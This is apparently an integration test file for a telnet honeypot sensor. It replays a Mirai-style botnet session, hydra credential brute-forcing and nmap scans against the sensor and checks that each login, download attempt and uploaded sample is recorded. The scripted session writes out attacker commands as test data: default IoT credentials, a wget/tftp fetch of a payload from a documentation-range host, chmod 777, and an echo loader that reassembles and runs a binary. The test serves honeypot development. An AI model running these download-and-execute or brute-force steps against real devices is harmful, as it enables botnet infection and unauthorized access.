//! Telnet against hydra, nmap and a scripted loader session through the real login policy.
// Integration tests and benches may panic; the workspace denies unwrap/expect elsewhere.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use drosera_sensor::config::Persona;
use drosera_sensor::governor::Pressure;
use drosera_uplink::event::{Detail, Protocol, SampleOutcome};
use std::collections::BTreeSet;
use std::time::Duration;
use support::clients::{echo_loader_lines, hydra_attempts, pairs_file, password_logins, Scripted, Tap, ODD_PAIRS};
use support::{config_for, require_client, run_client, sha256_hex, Harness};

/// Logs in through the default policy (two refusals from this address, then a weak pair),
/// using the three line ends hydra, telnet(1) and scripts send.
async fn login(c: &mut Scripted) {
    c.until("router login: ").await;
    c.send(b"root\r\0").await;
    c.until("Password: ").await;
    c.send(b"wrong\r\0").await;
    c.until("Login incorrect").await;
    c.until("router login: ").await;
    c.send(b"admin\n").await;
    c.until("Password: ").await;
    c.send(b"admin1\r").await;
    c.until("Login incorrect").await;
    c.until("router login: ").await;
    c.send(b"\0root\r\n").await;
    c.until("Password: ").await;
    c.send(b"xc3511\r\n").await;
    c.until("built-in shell (ash)").await;
    c.until("# ").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scripted_login_policy_line_ends_and_an_echo_loader_of_a_real_binary() {
    let original = std::fs::read("/usr/bin/true").unwrap();
    let h = Harness::start(&["telnet"]).await;
    let mut c = Scripted::connect(h.addr(Protocol::Telnet)).await;
    login(&mut c).await;
    c.send(b"/bin/busybox ECCHI\r\n").await;
    c.until("ECCHI: applet not found").await;
    c.send(b"cd /tmp; wget http://203.0.113.5/bins/x86 -O /tmp/x; /bin/busybox tftp -g -r m 203.0.113.5\r\n").await;
    c.until("# ").await;
    c.send(b">dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n").await;
    c.until("# ").await;
    // The loader pastes the binary 128 bytes a line, as Mirai's loader does, without waiting.
    let lines = echo_loader_lines(&original, "dvrHelper", 128);
    for l in &lines {
        c.send(format!("{l}\r\n").as_bytes()).await;
    }
    c.send(b"./dvrHelper telnet.loader; /bin/busybox ECCHI\r\nexit\r\n").await;
    c.until_closed().await;
    let evs = h.wait_connections(1, Duration::from_secs(15)).await;
    let logins = password_logins(&evs);
    assert_eq!(
        logins,
        vec![
            ("root".into(), "wrong".into(), false),
            ("admin".into(), "admin1".into(), false),
            ("root".into(), "xc3511".into(), true)
        ]
    );
    let urls: Vec<(String, String)> = evs
        .iter()
        .filter_map(|e| match &e.detail {
            Detail::DownloadOffered { url, tool } => Some((tool.clone(), url.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(
        urls,
        vec![("wget".into(), "http://203.0.113.5/bins/x86".into()), ("tftp".into(), "tftp://203.0.113.5/m".into())]
    );
    let commands = evs.iter().filter(|e| matches!(e.detail, Detail::Command { .. })).count();
    assert_eq!(commands, 200, "the first 200 lines are recorded one by one");
    let shed = evs.iter().find_map(|e| match &e.detail {
        Detail::Extension { kind, fields } if kind == "shell_shed" => Some(fields[0].1.clone()),
        _ => None,
    });
    let total_lines = 3 + lines.len() + 2;
    assert_eq!(shed, Some((total_lines - 200).to_string()), "the rest are counted");
    let samples: Vec<_> = evs
        .iter()
        .filter_map(|e| match &e.detail {
            Detail::Sample { sha256, size, name, source, outcome } => {
                Some((hex::encode(sha256), *size, name.clone(), source.clone(), *outcome))
            }
            _ => None,
        })
        .collect();
    let sha = sha256_hex(&original);
    assert_eq!(
        samples,
        vec![(sha.clone(), original.len() as u64, "/tmp/dvrHelper".into(), "telnet-echo".into(), SampleOutcome::Kept)]
    );
    assert_eq!(std::fs::read(h.samples_dir().join(&sha)).unwrap(), original, "the kept sample is the binary");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn three_refused_logins_end_the_connection() {
    let mut cfg = config_for(&["telnet"]);
    cfg.credentials.refuse_first = 100;
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let mut c = Scripted::connect(h.addr(Protocol::Telnet)).await;
    for n in 0..3 {
        c.until("router login: ").await;
        c.send(format!("root\r\nroot{n}\r\n").as_bytes()).await;
        c.until("Login incorrect").await;
    }
    c.until_closed().await;
    let evs = h.wait_connections(1, Duration::from_secs(10)).await;
    assert_eq!(password_logins(&evs).len(), 3);
    assert!(password_logins(&evs).iter().all(|l| !l.2));
    // BusyBox telnetd's option negotiation comes first, then the login prompt.
    assert!(c.received().starts_with(b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03router login: "));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hydra_telnet_every_pair_it_sends_is_recorded() {
    if !require_client("hydra") {
        return;
    }
    let h = Harness::start(&["telnet"]).await;
    // hydra talks to the sensor through a relay that keeps what hydra really sent.
    let tap = Tap::start(h.addr(Protocol::Telnet)).await;
    let dir = tempfile::tempdir().unwrap();
    let pairs = pairs_file(dir.path());
    let mut cmd = tokio::process::Command::new("hydra");
    cmd.current_dir(dir.path());
    cmd.args(["-C"]).arg(&pairs).args([
        "-t",
        "4",
        "-V",
        "-I",
        "-s",
        &tap.addr.port().to_string(),
        "127.0.0.1",
        "telnet",
    ]);
    let out = run_client(cmd, Duration::from_secs(150)).await;
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let attempted: BTreeSet<(String, String)> = hydra_attempts(&stdout).into_iter().collect();
    let want: BTreeSet<(String, String)> = ODD_PAIRS.iter().map(|(u, p)| (u.to_string(), p.to_string())).collect();
    assert_eq!(attempted, want, "hydra says it tried every pair: {stdout}");
    let mut sent = tap.telnet_pairs();
    sent.sort();
    assert!(sent.len() >= 8, "hydra sent {} pairs: {sent:?}", sent.len());
    let evs = h.wait_for(Duration::from_secs(20), |evs| password_logins(evs).len() >= sent.len()).await;
    let mut recorded: Vec<(String, String)> = password_logins(&evs).into_iter().map(|(u, p, _)| (u, p)).collect();
    recorded.sort();
    // Every pair hydra put on the wire, exactly, once per time it sent it...
    assert_eq!(recorded, sent, "hydra: {stdout}");
    // ...and nothing hydra did not try. (hydra 9.4's telnet module marks a pair done twice
    // when a server prompts again after a failure, as BusyBox does, so some pairs it lists
    // as attempted never reach the wire; the relay shows which.)
    let never_sent: Vec<_> = want.iter().filter(|p| !sent.contains(p)).collect();
    eprintln!("hydra listed {} pairs, sent {}; never sent: {never_sent:?}", want.len(), sent.len());
    for (u, p, ok) in password_logins(&evs) {
        if ok {
            assert!([("root", "xc3511"), ("admin", "admin")].contains(&(u.as_str(), p.as_str())), "{u}:{p}");
            assert!(stdout.contains(&format!("login: {u}   password: {p}")), "{stdout}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_names_the_telnetd_of_each_persona() {
    if !require_client("nmap") {
        return;
    }
    for (persona, product) in [
        (Persona::IotRouter, "BusyBox telnetd"),
        (Persona::LinuxServer, "Linux telnetd"),
        (Persona::WindowsServer, "Microsoft Windows XP telnetd"),
    ] {
        let mut cfg = config_for(&["telnet"]);
        cfg.sensor.persona = persona;
        let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
        let mut cmd = tokio::process::Command::new("nmap");
        cmd.args(["-Pn", "-n", "-sV", "--version-light", "-p", &h.port(Protocol::Telnet).to_string(), "127.0.0.1"]);
        let out = run_client(cmd, Duration::from_secs(60)).await;
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains(product), "{persona:?}: {text}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_linux_server_persona_is_debian_end_to_end() {
    let mut cfg = config_for(&["telnet"]);
    cfg.sensor.persona = Persona::LinuxServer;
    cfg.credentials.refuse_first = 0;
    let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
    let mut c = Scripted::connect(h.addr(Protocol::Telnet)).await;
    // Answering the options lets the login start at once (no 2 s wait).
    c.send(b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27").await;
    c.until("Debian GNU/Linux 12\r\nweb01 login: ").await;
    c.send(b"root\r\n").await;
    c.until("Password: ").await;
    c.send(b"root\r\n").await;
    c.until("permitted by applicable law.\r\nLast login: ").await;
    // pam_lastlog's line after the motd: `Tue Dec  1 05:17:02 UTC 2026 from 10.0.0.5 on pts/0`.
    c.until(" UTC 20").await;
    c.until(" from 10.0.0.5 on pts/0\r\nroot@web01:~# ").await;
    c.send(b"uname -a; cat /nope\r\n").await;
    c.until("Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux\r\ncat: /nope: No such file or directory\r\nroot@web01:~# ")
        .await;
    c.send(b"logout\r\n").await;
    c.until_closed().await;
    let evs = h.wait_connections(1, Duration::from_secs(10)).await;
    assert_eq!(password_logins(&evs), vec![("root".into(), "root".into(), true)]);
}
